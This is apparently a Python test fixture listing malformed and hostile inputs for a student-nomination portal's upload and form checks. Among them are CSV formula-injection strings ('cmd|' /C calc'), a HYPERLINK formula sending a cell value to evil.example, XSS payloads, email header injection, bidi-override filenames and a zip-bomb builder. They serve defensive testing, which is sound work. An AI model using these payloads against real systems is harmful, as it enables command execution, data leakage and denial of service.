"""A corpus of malformed inputs for the portal's upload and form endpoints (tests/dlsei/test_bad_inputs.py).

Each entry is ``(test id, payload)``; the ids name what is wrong so a failure says which input
broke what. Nothing here touches the database.
"""

import io
import zipfile

from openpyxl import Workbook

from tests.factories import JPEG, PDF, PNG

HEADER = "full_name,cnic,email,phone,role,programme_years,disability"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64 + b"This program cannot be run"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = '<script>alert("xss")</script>'
IMG = '"><img src=x onerror=alert(1)>'


def row(
    n: int,
    *,
    name: str | None = None,
    cnic: str | None = None,
    email: str | None = None,
    phone: str = "0300 1234567",
    role: str = "student",
    years: str = "16",
    disability: str = "no",
) -> str:
    digits = f"{3810100000000 + n:013d}"
    values = [
        name if name is not None else f"Learner {n}",
        cnic if cnic is not None else f"{digits[:5]}-{digits[5:12]}-{digits[12]}",
        email if email is not None else f"learner{n}@example.edu.pk",
        phone,
        role,
        years,
        disability,
    ]
    return ",".join(_quote(v) for v in values)


def _quote(value: str) -> str:
    return '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\n') else value


def csv_text(*rows: str, header: str = HEADER) -> str:
    return "\n".join([header, *rows]) + "\n"


def xlsx(rows: list[list], header: list[str] | None = None) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(header or HEADER.split(","))
    for values in rows:
        sheet.append(values)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def zip_of(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_bomb() -> bytes:
    """An .xlsx-shaped zip whose sheet unpacks to 120 MB of nothing (over every limit) from about 120 KB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as entry:
            block = b" " * (1024 * 1024)
            for _ in range(120):
                entry.write(block)
    return out.getvalue()


def huge_sheet() -> bytes:
    """A real workbook with more rows than a list may have (the row limit, not the byte limit)."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(HEADER.split(","))
    for n in range(5_001):
        sheet.append([f"L{n}", f"{3820100000000 + n:013d}", f"l{n}@x.pk", "", "student", 16, "no"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def nomination_files() -> list[tuple[str, str, bytes, str]]:
    """(id, file name, content, expectation): "refused" — the whole file is refused and nothing is
    stored; "preview" — it is read and previewed; what it holds must then be stored safely."""
    good = csv_text(row(1, name="José Müller"), row(2))
    urdu = csv_text(row(3, name="عائشہ خان"), row(4))
    valid_xlsx = xlsx([["Amina Bibi", "38101-0000005-5", "amina@example.edu.pk", "", "student", 16, "no"]])
    formulas = [
        ("formula_equals", "=1+1"),
        ("formula_hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        ("formula_plus", "+cmd|' /C calc'!A0"),
        ("formula_minus", "-2+3+cmd|' /C calc'!A0"),
        ("formula_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("formula_tab", "\t=1+1"),
    ]
    cases: list[tuple[str, str, bytes, str]] = [
        # Encodings.
        ("csv_utf8_bom", "list.csv", b"\xef\xbb\xbf" + good.encode(), "preview"),
        ("csv_utf8_bom_urdu", "list.csv", b"\xef\xbb\xbf" + urdu.encode(), "preview"),
        ("csv_cp1252", "list.csv", good.encode("cp1252"), "refused"),
        ("csv_latin1", "list.csv", good.encode("latin-1"), "refused"),
        ("csv_utf16_bom", "list.csv", good.encode("utf-16"), "refused"),
        ("csv_utf16le_no_bom", "list.csv", good.encode("utf-16-le"), "refused"),
        ("csv_utf16be_no_bom", "list.csv", good.encode("utf-16-be"), "refused"),
        ("csv_utf32", "list.csv", good.encode("utf-32"), "refused"),
        ("csv_shift_jis", "list.csv", csv_text(row(5, name="山田太郎")).encode("shift_jis"), "refused"),
        ("csv_gb18030", "list.csv", csv_text(row(6, name="王小明")).encode("gb18030"), "refused"),
        # Shape.
        ("csv_ragged_short_row", "list.csv", csv_text("Only A Name,38101-0000007-7").encode(), "refused"),
        ("csv_ragged_long_row", "list.csv", csv_text(row(8) + ",extra,cells,here").encode(), "refused"),
        ("csv_header_only", "list.csv", (HEADER + "\n").encode(), "refused"),
        ("csv_missing_columns", "list.csv", b"full_name,email\nA,a@b.pk\n", "refused"),
        ("csv_wrong_columns", "list.csv", b"name,id,mail\nA,1,a@b.pk\n", "refused"),
        ("csv_no_header", "list.csv", (row(9) + "\n").encode(), "refused"),
        ("csv_semicolons", "list.csv", csv_text(row(10)).replace(",", ";").encode(), "refused"),
        (
            "csv_unbalanced_quote",
            "list.csv",
            csv_text('"Broken name,38101-0000011-1,x@y.pk,,student,16,no').encode(),
            "refused",
        ),  # fmt: skip
        ("csv_nul_bytes", "list.csv", csv_text(row(12)).encode().replace(b"Learner", b"Lear\x00ner"), "refused"),
        ("csv_blank_line_above_header", "list.csv", ("\n" + csv_text(row(13))).encode(), "refused"),
        ("csv_blank_rows_between", "list.csv", csv_text("", row(13), "", ",,,,,,", row(14)).encode(), "preview"),
        ("csv_crlf", "list.csv", csv_text(row(15), row(16)).replace("\n", "\r\n").encode(), "preview"),
        ("csv_lone_cr", "list.csv", csv_text(row(17), row(18)).replace("\n", "\r").encode(), "preview"),
        ("csv_one_huge_cell", "list.csv", csv_text(row(19, name="A" * 1_000_000)).encode(), "refused"),
        ("csv_too_many_rows", "list.csv", csv_text(*(row(100 + n) for n in range(5_001))).encode(), "refused"),
        ("csv_over_size_limit", "list.csv", csv_text(row(20, name="B" * (3 * 1024 * 1024))).encode(), "refused"),
        ("csv_duplicate_rows", "list.csv", csv_text(row(21), row(21)).encode(), "preview"),
        # Text that a spreadsheet would run, and markup.
        *[
            (f"csv_{name}_in_name", "list.csv", csv_text(row(30 + i, name=value)).encode(), "preview")
            for i, (name, value) in enumerate(formulas)
        ],  # fmt: skip
        ("csv_formula_in_email", "list.csv", csv_text(row(40, email="=1+1@example.pk")).encode(), "preview"),
        ("csv_formula_in_phone", "list.csv", csv_text(row(41, phone="=cmd|' /C calc'!A0")).encode(), "preview"),
        ("csv_script_in_name", "list.csv", csv_text(row(42, name=SCRIPT)).encode(), "preview"),
        ("csv_img_in_name", "list.csv", csv_text(row(43, name=IMG)).encode(), "preview"),
        ("csv_script_in_every_cell", "list.csv", csv_text(",".join([_quote(SCRIPT)] * 7)).encode(), "preview"),
        ("csv_unicode_digit_cnic", "list.csv", csv_text(row(44, cnic="٣٨١٠١-٠٠٠٠٠٤٤-٤")).encode(), "preview"),
        ("csv_rtl_override_name", "list.csv", csv_text(row(45, name="\u202egnp.exe")).encode(), "preview"),
        # Workbooks.
        ("xlsx_valid", "list.xlsx", valid_xlsx, "preview"),
        (
            "xlsx_formula_cells",
            "list.xlsx",
            xlsx(
                [['=HYPERLINK("http://evil.example","x")', "38101-0000046-6", "f@example.pk", "", "student", 16, "no"]]
            ),
            "refused",  # a formula whose result was never saved: refused as a formula, not read as a blank name
        ),  # fmt: skip
        ("xlsx_not_a_zip", "list.xlsx", b"This is not a workbook at all, just text named .xlsx\n" * 3, "refused"),
        ("xlsx_random_bytes", "list.xlsx", bytes(range(256)) * 8, "refused"),
        ("xlsx_zip_of_text", "list.xlsx", zip_of({"readme.txt": b"hello"}), "refused"),
        ("xlsx_truncated", "list.xlsx", valid_xlsx[: len(valid_xlsx) // 2], "refused"),
        ("xlsx_zip_bomb", "list.xlsx", zip_bomb(), "refused"),
        ("xlsx_huge_sheet", "list.xlsx", huge_sheet(), "refused"),
        ("xls_ole2", "list.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000, "refused"),
        ("xlsx_empty_workbook", "list.xlsx", xlsx([], header=[""]), "refused"),
        # Something else entirely.
        ("empty_file_csv", "list.csv", b"", "refused"),
        ("empty_file_xlsx", "list.xlsx", b"", "refused"),
        ("one_byte", "list.csv", b"\xff", "refused"),
        ("pdf_named_csv", "list.csv", PDF, "refused"),
        ("png_named_xlsx", "list.xlsx", PNG, "refused"),
        ("exe_named_csv", "list.csv", EXE, "refused"),
        ("html_named_csv", "list.csv", HTML, "refused"),
    ]
    return cases


def document_files() -> list[tuple[str, str, bytes]]:
    """Files that claim to be a PDF or an image and are not (or not whole): every one is refused."""
    return [
        ("empty_pdf", "scan.pdf", b""),
        ("html_named_pdf", "scan.pdf", HTML),
        ("exe_named_pdf", "scan.pdf", EXE),
        ("zip_named_pdf", "scan.pdf", zip_of({"a.txt": b"x"})),
        ("truncated_pdf", "scan.pdf", PDF[:40]),
        ("pdf_header_only", "scan.pdf", b"%PDF-1.7\n"),
        ("truncated_png", "photo.png", PNG[:30]),
        ("truncated_jpeg", "photo.jpg", JPEG[:10]),
        ("svg_script_named_png", "photo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("gif_named_jpg", "photo.jpg", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
        ("text_named_pdf", "scan.pdf", b"just some text"),
        ("oversized_pdf", "scan.pdf", PDF[:-6] + b"0" * (6 * 1024 * 1024) + b"\n%%EOF\n"),
    ]


CNICS_WRONG = [
    ("cnic_empty", ""),
    ("cnic_short", "1234"),
    ("cnic_12_digits", "123451234567"),
    ("cnic_14_digits", "12345123456789"),
    ("cnic_missing_check_digit", "12345-1234567"),
    ("cnic_two_check_digits", "12345-1234567-12"),
    ("cnic_letters", "abcde-fghijkl-m"),
    ("cnic_mixed_letters", "35202-12A4567-1"),
    ("cnic_underscores", "35202_1234567_1"),
    ("cnic_double_dash", "35202--1234567-1"),
    ("cnic_leading_minus", "-3520212345671"),
    ("cnic_exponent", "3.520212345671e12"),
    ("cnic_fullwidth_digits", "３５２０２１２３４５６７１"),
    ("cnic_script", "<script>alert(1)</script>"),
    ("cnic_formula", "=3520212345671"),
    ("cnic_nul", "35202\x001234567-1"),
    ("cnic_very_long", "1" * 10_000),
]
# Other digits that mean the same number: refused, or stored as 13 plain digits, never as they came.
CNICS_OTHER_DIGITS = [
    ("cnic_arabic_indic_digits", "٣٥٢٠٢-١٢٣٤٥٦٧-١"),
    ("cnic_urdu_digits", "۳۵۲۰۲-۱۲۳۴۵۶۷-۱"),
    ("cnic_devanagari_digits", "३५२०२-१२३४५६७-१"),
    ("cnic_spaces", "35202 1234567 1"),
    ("cnic_surrounding_space", "  35202-1234567-1  "),
]
NAMES = [
    ("name_10000_chars", "N" * 10_000),
    ("name_201_chars", "N" * 201),
    ("name_empty", ""),
    ("name_only_spaces", "     "),
    ("name_nul", "Ali\x00Khan"),
    ("name_script", SCRIPT),
    ("name_img_onerror", IMG),
    ("name_formula", '=HYPERLINK("http://evil.example","x")'),
    ("name_rtl_override", "\u202eKhan Ali"),
    ("name_zero_width", "A\u200bl\u200bi"),
    ("name_emoji", "Ali 🎓 Khan"),
    ("name_urdu", "علی خان"),
    ("name_control_chars", "Ali\x07\x1bKhan"),
]
# These must be refused, never stored: they reorder or hide text, or are no CNIC at all.
MUST_REFUSE = [
    ("name_bidi_override_filename", {"full_name": "Evil\u202egnp.exe"}),
    ("name_bidi_isolate", {"full_name": "Ali \u2067Khan\u2069"}),
    ("name_zero_width_only", {"full_name": "\u200b\u200b\u200b"}),
    ("name_bell_escape", {"full_name": "Ali\x07\x1bKhan"}),
    ("name_nul_inside", {"full_name": "Ali\x00Khan"}),
    ("phone_direction_mark", {"phone": "\u200f0300 1234567"}),
    ("cnic_all_zeros", {"cnic": "0000000000000"}),
    ("cnic_all_ones_dashed", {"cnic": "11111-1111111-1"}),
    ("cnic_all_nines", {"cnic": "9999999999999"}),
]
# Dates people type: ISO and day-first only, four-digit years, 2000 to 2100, never the future.
DATES_REFUSED = [
    ("date_year_one", "0001-01-01"),
    ("date_year_9999", "9999-12-31"),
    ("date_two_digit_year", "02/03/20"),
    ("date_year_first_slashes", "2020/03/02"),
    ("date_words", "2 March 2020"),
    ("date_far_future", "2099-01-01"),
]
EMAILS = [
    ("email_script", "<script>@example.pk"),
    ("email_10000_chars", "a" * 10_000 + "@example.pk"),
    ("email_no_domain", "ali@"),
    ("email_formula", "=1+1@example.pk"),
    ("email_header_injection", "ali@example.pk\nBcc: everyone@example.pk"),
]
PHONES = [
    ("phone_10000_digits", "3" * 10_000),
    ("phone_script", SCRIPT),
    ("phone_formula", "=cmd|' /C calc'!A0"),
]
YEARS = [
    ("years_negative", "-1"),
    ("years_huge", "99999999999999999999999"),
    ("years_text", "sixteen"),
    ("years_float", "16.5"),
    ("years_arabic_digits", "١٦"),
    ("years_script", SCRIPT),
]
ROLES = [("role_admin", "admin"), ("role_script", SCRIPT), ("role_empty", "")]


def nominee_forms() -> list[tuple[str, dict]]:
    """(id, changes to a valid nominee form)."""
    cases = [(i, {"cnic": v}) for i, v in CNICS_WRONG + CNICS_OTHER_DIGITS]
    cases += [(i, {"full_name": v}) for i, v in NAMES]
    cases += [(i, {"email": v}) for i, v in EMAILS]
    cases += [(i, {"phone": v}) for i, v in PHONES]
    cases += [(i, {"programme_years": v}) for i, v in YEARS]
    cases += [(i, {"role": v}) for i, v in ROLES]
    return cases
